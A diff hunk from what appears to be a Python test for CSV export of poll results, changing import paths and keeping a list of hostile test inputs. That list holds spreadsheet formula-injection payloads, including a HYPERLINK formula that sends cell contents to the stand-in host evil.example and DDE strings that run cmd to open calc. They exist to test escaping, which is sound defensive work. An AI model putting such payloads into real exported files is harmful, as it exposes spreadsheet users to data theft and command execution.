@@ -6,8 +6,10 @@ from __future__ import annotations
 import csv
 import io
 
-from server.store.results import OptionResult, PollResult, SessionResults, SessionSummary
-from server.store.results_files import CSV_ENCODING, FORMULA_STARTS, csv_bytes
+from common.spreadsheet import FORMULA_STARTS
+from server.store.results import OptionResult, PollResult, SessionResults
+from server.store.results_files import CSV_ENCODING, csv_bytes
+from server.store.session_list import SessionSummary
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=1+1"', "Enig"]
